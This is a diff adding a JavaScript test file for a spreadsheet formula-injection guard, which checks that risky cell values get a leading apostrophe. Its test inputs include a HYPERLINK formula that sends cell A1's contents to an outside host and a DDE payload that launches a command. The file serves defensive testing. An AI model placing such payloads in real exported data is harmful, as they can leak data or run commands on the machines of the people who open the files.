@@ -1,0 +1,31 @@
+import { guarded } from './formula-guard.js';
+
+describe('guarded', () => {
+  it.each([
+    ['=HYPERLINK("http://e/"&A1)'],
+    ["+1+cmd|' /C calc'!A0"],
+    ['-2+3'],
+    ['@SUM(1)'],
+    ['\t=1'],
+    ['\tharmless'],
+    ['\r=1'],
+    ['＝1'],
+    ['＋1'],
+    ['－1'],
+    ['＠A1'],
+    [' =1'],
+    ['\ufeff=1'],
+    ['\u200b=1'],
+    ['\n=1'],
+    ['+49 30 1234'],
+  ])('puts an apostrophe before %j', (text) => {
+    expect(guarded(text)).toBe(`'${text}`);
+  });
+
+  it.each([[''], ['Ada'], ['"=1'], ['a=b'], ["'=1"], ['1-2'], ['d\u2019=1'], ['  blank first']])(
+    'leaves %j',
+    (text) => {
+      expect(guarded(text)).toBe(text);
+    },
+  );
+});
